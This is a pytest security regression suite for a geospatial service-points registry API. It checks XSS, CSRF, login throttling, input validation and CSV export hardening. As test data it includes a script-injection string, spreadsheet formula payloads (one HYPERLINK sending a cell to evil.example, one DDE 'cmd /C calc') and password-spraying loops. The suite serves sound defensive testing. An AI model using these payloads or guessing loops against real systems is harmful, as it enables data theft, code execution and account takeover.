"""Issue 16: what an attacker and a bad network found, one test per finding, over real HTTP against
the real stack.  Every test here failed on the registry before the hardening (the slow clients,
the database roles and the database's death have files of their own)."""
import csv
import io
import json
import uuid

import pytest
import requests

from registry_helpers import PASSWORD, assert_json_error, auth, new_feature

pytestmark = pytest.mark.registry

JSON = {"Content-Type": "application/json"}
BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}


def post_raw(http, url, data, user="rayong", headers=None):
    return http.post(url, data=data, headers=dict(JSON, **(headers or {})),
                     auth=auth(user) if user else None, timeout=30)


def pin_count(registry, pin_id):
    return registry.query("SELECT count(*) AS n FROM service_points WHERE pin_id = %s",
                          (pin_id,))[0]["n"]


@pytest.fixture(scope="module")
def rayong(registry):
    return registry.point_in("210101")


@pytest.fixture(scope="module")
def bulk_url(registry):
    return f"{registry.url}/collections/service_points/bulk"


def created(http, registry, point, **props):
    f = new_feature(point, "21", **props)
    r = post_raw(http, registry.items_url(), json.dumps(f))
    assert r.status_code == 201, r.text
    return f, r.headers["ETag"]


# -- 1. stored XSS: no HTML page embeds a pin; a CSP on every answer ---------------------------

XSS = "</script><script>document.title='pwned'</script><img src=x onerror=alert(1)>"


def test_1_a_pin_named_like_a_script_is_never_served_as_html(http, registry, rayong):
    f, _ = created(http, registry, rayong, name_th=XSS, name_en=XSS)
    urls = [registry.items_url(f["id"]), registry.items_url(), registry.url + "/",
            registry.url + "/collections", registry.url + "/collections/service_points"]
    for url in urls:
        r = http.get(url, headers=BROWSER, timeout=30)  # what a browser asks for
        assert r.status_code == 200, (url, r.text[:300])
        assert "html" not in r.headers["Content-Type"], (url, r.headers["Content-Type"])
        csp = r.headers.get("Content-Security-Policy", "")
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp, (url, csp)
        assert r.headers.get("X-Content-Type-Options") == "nosniff"
    # asking for HTML by name is refused (JSON), never answered with a page
    for url in urls[:2]:
        r = http.get(url, params={"f": "html"}, headers=BROWSER, timeout=30)
        assert_json_error(r, 400, "unsupported_format")
        assert "<script>" not in r.text
    # errors carry the policy too
    r = http.get(registry.url + "/collections/nope", headers=BROWSER, timeout=30)
    assert_json_error(r, 404)
    assert "default-src 'none'" in r.headers.get("Content-Security-Policy", "")


# -- 2. bodies are bounded on every method; a read carries none --------------------------------

def test_2_a_read_with_a_body_is_refused_before_it_is_read_or_logged(http, registry):
    log = registry.data / "serve.log"
    before = log.stat().st_size
    cql = b'{"op": "=", "args": [{"property": "name_th"}, "' + b"x" * (4 << 20) + b'"]}'
    r = http.get(registry.items_url(), params={"f": "json"}, data=cql, headers=JSON, timeout=60)
    assert_json_error(r, 413, "body_not_allowed")
    r = http.get(registry.items_url(), data=(b"x" * 100 for _ in range(3)), timeout=60)  # chunked
    assert_json_error(r, 411, "length_required")
    r = http.delete(registry.items_url(str(uuid.uuid4())), data=b"x" * (2 << 20),
                    headers={"If-Match": '"1"'}, auth=auth("rayong"), timeout=60)
    assert_json_error(r, 413)
    assert log.stat().st_size - before < 64 * 1024  # no body in the log


# -- 4. client mistakes are 4xx, never 500 (and never committed then answered 500) -------------

@pytest.mark.parametrize("if_match", [1, True, ['"1"'], {"v": 1}, 1.5])
def test_4_bulk_if_match_of_the_wrong_type_is_a_400_result(http, registry, rayong, bulk_url,
                                                           if_match):
    f, etag = created(http, registry, rayong)
    ops = [{"op": "delete", "id": f["id"], "if_match": if_match}]
    r = post_raw(http, bulk_url, json.dumps({"operations": ops}))
    assert r.status_code == 200, r.text
    result = r.json()["results"][0]
    assert result["status"] == 400 and result["code"] == "bad_if_match", result
    assert pin_count(registry, f["id"]) == 1


def test_4_huge_integer_coordinates_are_a_422(http, registry, rayong):
    f = new_feature(rayong, "21")
    text = json.dumps(f).replace(json.dumps(f["geometry"]["coordinates"]),
                                 "[1" + "0" * 309 + ", 12]")
    r = post_raw(http, registry.items_url(), text)
    body = assert_json_error(r, 422, "invalid")
    assert ("geometry", "not_a_point") in {(p["field"], p["code"]) for p in body["problems"]}
    assert pin_count(registry, f["id"]) == 0


def test_4_lone_surrogates_are_refused_as_json_everywhere(http, registry, rayong, bulk_url):
    f = new_feature(rayong, "21")
    value = json.dumps(f).replace('"name_th": "', '"name_th": "\\ud800', 1)
    key = json.dumps(f).replace('"name_th"', '"\\udfff"', 1)
    for text in (value, key):
        r = post_raw(http, registry.items_url(), text)
        assert_json_error(r, 400, "invalid_text")
    assert pin_count(registry, f["id"]) == 0
    # a bulk with such an id is refused whole: nothing committed, nothing to retry wrongly
    good = new_feature(rayong, "21")
    ops = json.dumps({"operations": [{"op": "create", "feature": good},
                                     {"op": "delete", "id": "X", "if_match": '"1"'}]})
    r = post_raw(http, bulk_url, ops.replace('"id": "X"', '"id": "\\ud800"'))
    assert_json_error(r, 400, "invalid_text")
    assert pin_count(registry, good["id"]) == 0


# -- 5. no cross-site writes ------------------------------------------------------------------

def test_5_writes_need_a_json_content_type(http, registry, rayong, bulk_url):
    f = new_feature(rayong, "21")
    body = json.dumps({"operations": [{"op": "create", "feature": f}]})
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                  "application/json; charset=latin-1", None):
        headers = {"Content-Type": ctype} if ctype else {}
        r = requests.post(bulk_url, data=body.encode(), headers=headers, auth=auth("rayong"),
                          timeout=30)
        if ctype is None:
            assert "Content-Type" not in r.request.headers
        assert_json_error(r, 415, "unsupported_media_type")
        r = requests.post(registry.items_url(), data=json.dumps(f).encode(), headers=headers,
                          auth=auth("rayong"), timeout=30)
        assert_json_error(r, 415)
    assert pin_count(registry, f["id"]) == 0
    # both JSON types pass (the plugin sends application/geo+json)
    for ctype in ("application/geo+json", "application/json; charset=utf-8"):
        g = new_feature(rayong, "21")
        r = post_raw(http, registry.items_url(), json.dumps(g), headers={"Content-Type": ctype})
        assert r.status_code == 201, r.text


def test_5_writes_from_another_site_are_refused(http, registry, rayong, bulk_url):
    f = new_feature(rayong, "21")
    body = json.dumps({"operations": [{"op": "create", "feature": f}]})
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"},
                    {"Sec-Fetch-Site": "cross-site"}):
        r = post_raw(http, bulk_url, body, headers=headers)
        assert_json_error(r, 403, "cross_origin")
        r = post_raw(http, registry.items_url(), json.dumps(f), headers=headers)
        assert_json_error(r, 403, "cross_origin")
    assert pin_count(registry, f["id"]) == 0
    # the registry's own origin is no other site
    r = post_raw(http, registry.items_url(), json.dumps(f), headers={"Origin": registry.url})
    assert r.status_code == 201, r.text


# -- 6. accounts cannot be enumerated; guessing is throttled across processes ------------------

def test_6_tombstones_do_not_publish_account_names(http, registry, rayong):
    f, etag = created(http, registry, rayong)
    r = http.delete(registry.items_url(f["id"]), headers={"If-Match": etag}, auth=auth("rayong"),
                    timeout=30)
    assert r.status_code == 204
    tomb = http.get(f"{registry.url}/collections/deleted_service_points/items/{f['id']}",
                    params={"f": "json"}, timeout=30)
    assert tomb.status_code == 200, tomb.text
    assert "deleted_by" not in tomb.json()["properties"]
    assert "rayong" not in tomb.text
    # who deleted it stays in the audit trail, which is not published
    assert registry.query("SELECT actor FROM audit WHERE pin_id = %s AND action = 'delete'",
                          (f["id"],))[0]["actor"] == "rayong"


def _attempt(url, name, password, address):
    return requests.get(url + "/account", auth=(name, password), timeout=30,
                        headers={"X-Forwarded-For": address})


def test_6_unknown_and_known_names_fail_alike_and_guessing_is_throttled(registry):
    assert registry.add_user("victim", PASSWORD, "21").returncode == 0
    answers = {}
    for name, address in (("victim", "198.51.100.10"), ("no-such-account", "198.51.100.11")):
        seen = []
        for _ in range(12):
            r = _attempt(registry.url, name, "wrong password", address)
            seen.append(r.status_code)
            if r.status_code == 429:
                body = assert_json_error(r, 429, "too_many_attempts")
                assert int(r.headers["Retry-After"]) > 0
                assert body["message_th"]
                break
            assert_json_error(r, 401, "unauthorized")
        answers[name] = seen
    # the same number of failures before the lock, whether the account exists or not
    assert answers["victim"] == answers["no-such-account"], answers
    assert answers["victim"][-1] == 429 and len(answers["victim"]) <= 12
    # locked means locked: the right password too, from another address
    r = _attempt(registry.url, "victim", PASSWORD, "198.51.100.99")
    assert_json_error(r, 429, "too_many_attempts")
    # the count lives in PostgreSQL, not in one process's memory
    keys = {r["key"] for r in registry.query("SELECT key FROM auth_throttle")}
    assert {"name:victim", "name:no-such-account"} <= keys
    # others are not affected
    assert requests.get(registry.url + "/account", auth=auth("rayong"),
                        timeout=30).status_code == 200


def test_6_one_address_cannot_spray_many_names(registry):
    statuses = []
    for i in range(60):
        r = _attempt(registry.url, f"spray{i}", "wrong password", "203.0.113.5")
        statuses.append(r.status_code)
        if r.status_code == 429:
            assert_json_error(r, 429, "too_many_attempts")
            break
    assert statuses[-1] == 429, statuses
    # another address is not blocked
    assert _attempt(registry.url, "rayong", PASSWORD, "203.0.113.6").status_code == 200


# -- 7. one strong ETag for a write -----------------------------------------------------------

def test_7_if_match_is_one_strong_tag(http, registry, rayong):
    f, etag = created(http, registry, rayong)
    changed = json.loads(json.dumps(f))
    changed["properties"]["name_th"] = "ชื่อใหม่"
    every = ", ".join(f'"{v}"' for v in range(1, 50))
    for header in (every, f'{etag}, "2"', f"W/{etag}", "1", f'{etag} {etag}', '""'):
        r = http.put(registry.items_url(f["id"]), data=json.dumps(changed),
                     headers=dict(JSON, **{"If-Match": header}), auth=auth("rayong"), timeout=30)
        assert_json_error(r, 400, "bad_if_match")
        r = http.delete(registry.items_url(f["id"]), headers={"If-Match": header},
                        auth=auth("rayong"), timeout=30)
        assert_json_error(r, 400, "bad_if_match")
    assert registry.query("SELECT version, name_th FROM service_points WHERE pin_id = %s",
                          (f["id"],))[0] == {"version": 1, "name_th": f["properties"]["name_th"]}
    r = http.put(registry.items_url(f["id"]), data=json.dumps(changed),
                 headers=dict(JSON, **{"If-Match": etag}), auth=auth("rayong"), timeout=30)
    assert r.status_code == 200 and r.headers["ETag"] == '"2"'


# -- 10. the smaller ones ---------------------------------------------------------------------

@pytest.mark.parametrize("name, code", [
    ("\u200b", "required"), ("\u200b\u200c\ufeff \u00a0\u3000", "required"),
    ("ชื่อ\tแท็บ", "tab_or_line_break"), ("บรรทัด\nใหม่", "tab_or_line_break"),
    ("a\r\nb", "tab_or_line_break"), ("ab\u2028cd", "tab_or_line_break"),
    ("gnp\u202eexe.doc", "control_characters"),
])
def test_10_invisible_names_and_line_breaks_are_refused(http, registry, rayong, name, code):
    f = new_feature(rayong, "21", name_th=name)
    body = assert_json_error(post_raw(http, registry.items_url(), json.dumps(f)), 422, "invalid")
    assert ("name_th", code) in {(p["field"], p["code"]) for p in body["problems"]}, body
    assert pin_count(registry, f["id"]) == 0


def test_10_text_is_stored_normalised(http, registry, rayong):
    # NFC, no padding: "e" + combining acute is stored as one "é"; spaces and invisible marks
    # around a value are not part of it
    f = new_feature(rayong, "21", name_th="\u200b  จุดบริการ  \u00a0", name_en="Cafe\u0301",
                    address="12 Moo 3\nTambon Tha Pradu")
    r = post_raw(http, registry.items_url(), json.dumps(f))
    assert r.status_code == 201, r.text
    props = r.json()["properties"]
    assert (props["name_th"], props["name_en"]) == ("จุดบริการ", "Caf\u00e9")
    assert props["address"] == "12 Moo 3\nTambon Tha Pradu"  # an address may span lines
    again = post_raw(http, registry.items_url(), json.dumps(f))  # the same pin, sent again
    assert again.status_code == 200


def test_10_a_pin_id_with_a_trailing_newline_is_a_format_problem(http, registry, rayong):
    f = new_feature(rayong, "21")
    f["id"] += "\n"
    body = assert_json_error(post_raw(http, registry.items_url(), json.dumps(f)), 422, "invalid")
    assert ("pin_id", "format") in {(p["field"], p["code"]) for p in body["problems"]}
    r = http.put(registry.items_url(f["id"].strip()) + "%0A", data=json.dumps(f),
                 headers=dict(JSON, **{"If-Match": '"1"'}), auth=auth("rayong"), timeout=30)
    body = assert_json_error(r, 422, "invalid")
    assert ("pin_id", "format") in {(p["field"], p["code"]) for p in body["problems"]}
    r = http.delete(registry.items_url(f["id"].strip()) + "%0A", headers={"If-Match": '"1"'},
                    auth=auth("rayong"), timeout=30)
    assert_json_error(r, 404)


def test_10_csv_output_neutralises_spreadsheet_formulas(http, registry, rayong):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1,2)", "=1+1"]
    ids = []
    for i, text in enumerate(formulas):
        f, _ = created(http, registry, rayong, name_en=text, agency=f"csv-formula-{i}")
        ids.append(f["id"])
    r = http.get(registry.items_url(), params={"f": "csv", "limit": 5000}, timeout=60)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    mine = {row["agency"]: row for row in rows if row.get("agency", "").startswith("csv-formula")}
    assert len(mine) == len(formulas)
    for i, text in enumerate(formulas):
        cell = mine[f"csv-formula-{i}"]["name_en"]
        assert cell == "'" + text, cell
    for row in rows:  # nothing a spreadsheet would evaluate, in any column
        assert not any(v and v[0] in "=+@\t\r" for v in row.values()), row
    # the JSON keeps the text as it is
    got = http.get(registry.items_url(ids[0]), params={"f": "json"}, timeout=30).json()
    assert got["properties"]["name_en"] == formulas[0]


def _refs(node, out):
    if isinstance(node, dict):
        for k, v in node.items():
            if k == "$ref":
                out.append(v)
            else:
                _refs(v, out)
    elif isinstance(node, list):
        for v in node:
            _refs(v, out)
    return out


def _resolve(doc, ref):
    node = doc
    for part in ref[2:].split("/"):
        node = node[part.replace("~1", "/").replace("~0", "~")]
    return node


def test_10_openapi_describes_the_gateway_and_resolves_offline(http, registry):
    r = http.get(registry.url + "/openapi", params={"f": "json"}, timeout=30)
    assert r.status_code == 200 and "json" in r.headers["Content-Type"]
    doc = r.json()
    refs = _refs(doc, [])
    assert refs and all(ref.startswith("#/") for ref in refs), \
        sorted({x for x in refs if not x.startswith("#/")})[:5]
    for ref in refs:
        _resolve(doc, ref)  # raises when it does not resolve
    paths = doc["paths"]
    item = paths["/collections/service_points/items/{featureId}"]
    assert set(item["put"]["responses"]) >= {"200", "400", "401", "403", "404", "412", "415",
                                             "422", "428", "503"}
    assert "201" not in item["put"]["responses"]
    assert set(item["delete"]["responses"]) >= {"204", "400", "401", "403", "404", "412", "428"}
    post = paths["/collections/service_points/items"]["post"]
    assert set(post["responses"]) >= {"200", "201", "401", "403", "409", "413", "415", "422"}
    assert paths["/collections/service_points/bulk"]["post"]["responses"]["200"]
    assert paths["/account"]["get"]["security"] == [{"basicAuth": []}]
    assert doc["components"]["securitySchemes"]["basicAuth"]["scheme"] == "basic"
    assert "/processes" not in paths and "/jobs" not in paths  # nothing it does not serve
    for path in paths:
        concrete = path.replace("{collectionId}", "provinces").replace(
            "{featureId}", "10").replace("{pinId}", str(uuid.uuid4()))
        r = http.get(registry.url + concrete, params={"f": "json"}, timeout=30)
        assert r.status_code in (200, 401, 404), (path, r.status_code)
